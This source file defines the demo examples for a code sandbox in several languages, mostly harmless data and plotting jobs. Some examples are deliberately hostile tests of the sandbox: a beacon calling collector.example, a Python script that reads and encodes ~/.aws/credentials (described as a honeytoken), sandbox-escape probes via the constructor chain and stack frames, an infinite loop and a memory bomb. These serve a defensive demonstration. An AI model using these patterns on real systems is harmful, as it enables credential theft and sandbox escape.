import { rightsInPython } from './notebook-samples.js'

/**
 * Example jobs. The first one of each language is shown by its tab; an example with a `life` runs with that schedule of
 * policies/schedules.json.
 *
 * @typedef {{
 *   name: string, group: string, language: string, about: string, code: string, input?: unknown, life?: string,
 *   makesFiles?: boolean,
 * }} Example
 */

/** Languages in the order of the tabs. */
export const languages = [
  ['js', 'JavaScript'],
  ['ts', 'TypeScript'],
  ['node', 'Node'],
  ['python', 'Python'],
  ['bash', 'Shell'],
]

/** Name of the input in each language. */
export const inputPlaces = {
  js: 'input',
  ts: 'input',
  node: 'standard input',
  python: 'input',
  bash: 'standard input',
}

/** Schedules to choose from: value, name, explanation. */
export const lives = [
  ['', 'plain, 5 s', 'At most five seconds; no network, no files of this machine.'],
  ['late-beacon', 'loses its network', 'A network for 3 s, revoked earlier after an anomaly.'],
  [
    'planted-credential',
    'planted credentials',
    'Its home folder contains false credentials (honeytokens).',
  ],
  [
    'shrinking-life',
    'shrinks',
    'All rights for 2 s; no network for 1.5 s; half a core for 1.5 s; then the end.',
  ],
]

/** @type {readonly Example[]} */
export const examples = [
  {
    name: 'JavaScript',
    group: 'First steps',
    language: 'js',
    about: 'Data in, data out, like most jobs. The return value is the result.',
    input: {
      orders: [
        { customer: 'Ada', item: 'lamp', price: 40 },
        { customer: 'Alan', item: 'tape', price: 3.5 },
        { customer: 'Ada', item: 'desk', price: 210 },
      ],
    },
    code: `const byCustomer = Map.groupBy(input.orders, (order) => order.customer)
console.log(\`\${byCustomer.size} customers\`)

return [...byCustomer].map(([customer, orders]) => ({
  customer,
  items: orders.map((order) => order.item),
  total: orders.reduce((sum, order) => sum + order.price, 0),
}))
`,
  },
  {
    name: 'TypeScript',
    group: 'First steps',
    language: 'ts',
    about: 'Types are stripped; no compilation is needed.',
    input: { celsius: [-40, 0, 21.5, 100] },
    code: `interface Reading {
  readonly celsius: number
  readonly fahrenheit: number
}

function convert(celsius: number): Reading {
  return { celsius, fahrenheit: celsius * 1.8 + 32 }
}

return (input.celsius as number[]).map(convert)
`,
  },
  {
    name: 'Node',
    group: 'First steps',
    language: 'node',
    about: "A program with all of Node's modules, files and processes, in a sandbox of its own.",
    code: `import { createHash } from 'node:crypto'
import { writeFile } from 'node:fs/promises'
import { setTimeout as wait } from 'node:timers/promises'

for (const word of ['lamp', 'tape', 'desk']) {
  console.log(word, createHash('sha256').update(word).digest('hex').slice(0, 16))
  await wait(300)
}
await writeFile('out/words.txt', 'lamp\\ntape\\ndesk\\n')
`,
    makesFiles: true,
  },
  {
    name: 'Python',
    group: 'First steps',
    language: 'python',
    about: 'A script as python3 runs it. The variable "result", if set, is the result.',
    code: `import collections, statistics, time

text = "the walls hold and the first day is the one that counts".split()
for count, word in enumerate(text, 1):
    print(count, word)
    time.sleep(0.1)

lengths = [len(word) for word in text]
result = {
    "words": len(text),
    "most common": collections.Counter(text).most_common(1)[0],
    "mean length": round(statistics.mean(lengths), 2),
}
`,
  },
  {
    name: 'Shell',
    group: 'First steps',
    language: 'bash',
    about: 'Bash with the programs of this machine, in an empty folder.',
    code: `set -euo pipefail

for word in lamp tape desk lamp; do
  echo "$word" | tee -a words.txt
  sleep 0.2
done
echo "--- counted"
sort words.txt | uniq -c | sort -rn
`,
  },
  {
    name: 'A late beacon',
    group: 'A life that only closes',
    language: 'js',
    life: 'late-beacon',
    about:
      'Harmless for half a second, then it contacts a server at fixed intervals. A detector reports the beacon, and the run loses its network and half of its remaining time.',
    code: `const wait = (ms) => new Promise((done) => setTimeout(done, ms))

for (let order = 1; order <= 5; order++) {
  console.log(\`order \${order} checked\`)
  await wait(100)
}
for (let call = 1; ; call++) {
  try {
    await fetch('https://collector.example/?call=' + call)
    console.log('let out')
  } catch (error) {
    console.log(\`call home \${call}: \${error.message}\`)
  }
  await wait(210)
}
`,
  },
  {
    name: 'A planted credential',
    group: 'A life that only closes',
    language: 'python',
    life: 'planted-credential',
    about:
      'Harmless at first, then it searches for credentials and sends one out. The one it finds is a honeytoken: the run is terminated before a byte leaves.',
    code: `import base64, pathlib, time

for report in range(1, 5):
    print(f"report {report}: {sum(n * n for n in range(100_000))}")
    time.sleep(0.4)

secret = pathlib.Path.home() / ".aws" / "credentials"
print("found:", base64.b64encode(secret.read_bytes()).decode())
time.sleep(1)
print("nobody saw me")
`,
  },
  {
    name: 'A shrinking life',
    group: 'A life that only closes',
    language: 'python',
    life: 'shrinking-life',
    about:
      'It prints the rights that it still has. It loses the network, then half of its core, then it ends. Closed rights are never restored.',
    code: `${rightsInPython}

began = time.monotonic()
while True:
    age = time.monotonic() - began
    print(f"{age:4.1f} s  network {network():8} core {core(0.25):.0%}")
`,
  },
  {
    name: 'A figure',
    group: 'Files and plots',
    language: 'python',
    about: 'A plot as in a notebook; it needs matplotlib on this machine.',
    makesFiles: true,
    code: `import math
import matplotlib.pyplot as plt

days = [day / 10 for day in range(63)]
plt.figure(figsize=(6, 2.6))
plt.plot(days, [math.sin(day) for day in days])
plt.title("A figure")
plt.savefig("figure.png")
print("drawn")
`,
  },
  {
    name: 'A loop without an end',
    group: 'Limits',
    language: 'js',
    about:
      'It never yields, so nothing inside can stop it. The sandbox is ended from outside at its timeout.',
    code: `console.log('starting')
while (true) {}
`,
  },
  {
    name: 'A memory bomb',
    group: 'Limits',
    language: 'js',
    about: 'It allocates memory up to its limit. The server and other jobs are not affected.',
    code: `const hoard = []
for (;;) {
  hoard.push(new Array(1_000_000).fill(hoard.length))
}
`,
  },
  {
    name: 'A way out',
    group: 'Limits',
    language: 'js',
    about:
      'It tries the usual tricks to reach the process, the file system and the network. The analysis of its source finds one of them, and it is blocked before it runs.',
    input: {},
    code: `const tricks = {
  process: () => typeof process,
  require: () => typeof require,
  fetch: () => typeof fetch,
  constructor: () => input.constructor.constructor('return typeof process')(),
  stack: () => {
    Error.prepareStackTrace = (_, frames) => typeof frames[0].getThis()
    return new Error().stack
  },
}

const found = {}
for (const [name, trick] of Object.entries(tricks)) {
  try {
    found[name] = trick()
  } catch (error) {
    found[name] = String(error)
  }
}
return found
`,
  },
]
